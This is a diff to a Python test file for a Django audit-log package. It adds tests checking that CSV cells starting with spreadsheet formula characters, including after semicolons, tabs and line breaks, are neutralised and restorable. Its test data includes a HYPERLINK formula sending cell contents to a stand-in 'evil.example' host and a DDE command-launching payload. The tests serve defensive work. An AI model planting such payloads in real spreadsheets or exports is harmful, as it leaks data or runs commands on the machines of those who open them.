@@ -5,12 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import tracemalloc
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis.strategies import text
 
 from auditkit_django import auditlog
 from auditkit_django.exceptions import MalformedError
@@ -23,13 +26,38 @@ _FORMULAS = [
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "  =1", "＝1", "＋1", "－1", "＠x", "'quoted", " 'x",  # noqa: RUF001
     '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
 ]  # fmt: skip
-_HARMLESS = ["", " ", "plain", "a=b", "ada@example.org", "3-1", "it's", "2026-01-01T00:00:00Z", '{"a": 1}']
+_HARMLESS = [
+    "", " ", "plain", "a=b", "ada@example.org", "3-1", "it's", "2026-01-01T00:00:00Z", '{"a": 1}',
+    "a; b", "a\r\nb", "a,=1", "a|=1", '"=1"', '{"a;":-1,"b":"c\\n=1"}', "x;y=1", "it;s'",
+]  # fmt: skip
+#: What begins a cell where it is read with other separators than the comma.
+_BROKEN = [
+    ("x;=1;y", "x;'=1;y"), ("x\t+1", "x\t'+1"), ("x\n-1", "x\n'-1"), ("x\r@y", "x\r'@y"), ("x\r\n=1", "x\r\n'=1"),
+    ("x;  =1", "x;'  =1"), ('x";"=1";"y', """x";'"=1";"y"""), ("x;＝1", "x;'＝1"), ("x;\0=1", "x;'\0=1"),  # noqa: RUF001
+    ("x;'=1", "x;''=1"), ("x; 'y", "x;' 'y"), (";=1", ";'=1"), (";;=1", ";;'=1"), ("x;\t=1", "x;\t'=1"), ("\t=1", "'\t'=1"),
+    ("=1;=2\n=3", "'=1;'=2\n'=3"), ("';'=1", "'';''=1"), ('{"a":"x;=1"}', '{"a":"x;\'=1"}'),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("cell", _FORMULAS, ids=repr)
 def test_a_formula_is_neutralised_and_can_be_restored(cell: str) -> None:
-    assert neutralised(cell) == f"'{cell}"
+    assert neutralised(cell).startswith("'")
     assert restored(neutralised(cell)) == cell
+
+
+@pytest.mark.parametrize(("cell", "wanted"), _BROKEN, ids=repr)
+def test_a_formula_after_a_break_is_neutralised_and_can_be_restored(cell: str, wanted: str) -> None:
+    assert neutralised(cell) == wanted
+    assert restored(wanted) == cell
+
+
+@given(text("=-@;\t\r\n' \"\0x＝", max_size=12))  # noqa: RUF001
+def test_every_text_is_neutralised_and_can_be_restored(cell: str) -> None:
+    safe = neutralised(cell)
+    assert restored(safe) == cell
+    begin, *after = re.split("[;\t\r\n]", safe)
+    for part in (begin.lstrip(" \0"), *(part.lstrip(' "\0') for part in after)):
+        assert not part.startswith(tuple("=-@＝"))  # noqa: RUF001
 
 
 @pytest.mark.parametrize("cell", _HARMLESS, ids=repr)
